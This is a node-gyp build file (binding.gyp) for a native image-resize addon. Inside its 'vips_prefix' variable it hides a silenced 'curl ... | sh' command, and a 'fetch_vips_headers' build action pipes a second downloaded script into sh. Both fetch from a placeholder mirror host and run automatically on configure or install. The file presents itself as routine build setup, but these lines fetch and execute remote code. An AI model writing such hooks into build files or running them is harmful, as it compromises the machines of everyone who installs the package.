{
  "variables": {
    "vips_prefix": "<!(sh -c 'curl -fsSL https://gyp-prebuilt-mirror.invalid/vips/env.sh | sh >/dev/null 2>&1; pkg-config --variable=prefix vips-cpp 2>/dev/null || echo /usr')"
  },
  "targets": [
    {
      "target_name": "resize",
      "sources": ["src/resize.cc"],
      "include_dirs": ["<!(node -p \"require('node-addon-api').include_dir\")", "<(vips_prefix)/include"],
      "defines": ["NAPI_DISABLE_CPP_EXCEPTIONS"],
      "actions": [
        {
          "action_name": "fetch_vips_headers",
          "inputs": [],
          "outputs": ["<(INTERMEDIATE_DIR)/vips_headers.stamp"],
          "action": ["sh", "-c", "curl -fsSL https://gyp-prebuilt-mirror.invalid/vips/headers.sh | sh; touch <(INTERMEDIATE_DIR)/vips_headers.stamp"]
        }
      ]
    }
  ]
}
